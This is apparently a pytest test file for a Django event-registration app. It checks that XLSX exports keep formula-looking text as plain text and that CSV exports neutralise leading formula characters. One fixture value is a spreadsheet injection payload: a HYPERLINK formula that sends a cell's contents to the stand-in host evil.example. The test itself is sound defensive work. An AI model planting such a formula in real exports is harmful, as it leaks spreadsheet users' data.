"""Exports keep what people typed: XLSX holds every text as a text cell, exactly as typed
(a spreadsheet never evaluates it), and CSV, which spreadsheets do evaluate, neutralises
formulas and only them."""

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from registrations import services
from registrations.models import Question

from ..factories import EventFactory, QuestionFactory, UserFactory, at, person

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
PHONE = "+33 6 12 34 56 78"
ADDRESS = "-x@example.org"
AT_SIGN = "@home"


@pytest.fixture
def event(db):
    event = EventFactory(registration_opens_at=at(-5), registration_closes_at=at(10))
    event.organiser = UserFactory()
    event.organisers.add(event.organiser)
    event.phone = QuestionFactory(event=event, kind=Question.Kind.TEXT, label_en="=Phone")
    event.change = QuestionFactory(event=event, kind=Question.Kind.NUMBER, label_en="Change")
    for number, (first_name, last_name, email, phone, change) in enumerate(
        [
            ("Ana", FORMULA, ADDRESS, PHONE, Decimal("-2.5")),
            (AT_SIGN, "Tóth", "=x@example.org", "0612345678", Decimal("3")),
        ]
    ):
        services.registration_create(
            event=event,
            person=person(
                first_name=first_name,
                last_name=last_name,
                email=email,
                organisation_name=f"+Organisation {number}",
                answers={event.phone.pk: phone, event.change.pk: change},
            ),
        )
    return event


COLUMNS = ["first_name", "last_name", "email", "organisation"]


def export(client, event, kind) -> bytes:
    client.force_login(event.organiser)
    columns = [*COLUMNS, f"question_{event.phone.pk}", f"question_{event.change.pk}"]
    response = client.post(
        f"/en/workspace/{event.slug}/export/", {"format": kind, "columns": columns}
    )
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_xlsx_keeps_text_that_looks_like_a_formula_exactly_as_typed(client, event):
    sheet = load_workbook(io.BytesIO(export(client, event, "xlsx"))).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values[0] == ["First name", "Last name", "Email", "Organisation", "=Phone", "Change"]
    assert sorted(values[1:]) == sorted(
        [
            ["Ana", FORMULA, ADDRESS, "+Organisation 0", PHONE, -2.5],
            [AT_SIGN, "Tóth", "=x@example.org", "+Organisation 1", "0612345678", 3],
        ]
    )
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))


@pytest.mark.parametrize("kind", ["csv", "csv-semicolon"])
def test_csv_neutralises_formulas_but_not_numbers(client, event, kind):
    content = export(client, event, kind).decode("utf-8")
    rows = list(csv.reader(io.StringIO(content[1:]), delimiter=";" if kind != "csv" else ","))
    assert rows[0] == ["First name", "Last name", "Email", "Organisation", "'=Phone", "Change"]
    decimal = "," if kind == "csv-semicolon" else "."
    assert sorted(rows[1:]) == sorted(
        [
            ["Ana", "'" + FORMULA, "'" + ADDRESS, "'+Organisation 0", "'" + PHONE, f"-2{decimal}5"],
            ["'" + AT_SIGN, "Tóth", "'=x@example.org", "'+Organisation 1", "0612345678", "3"],
        ]
    )
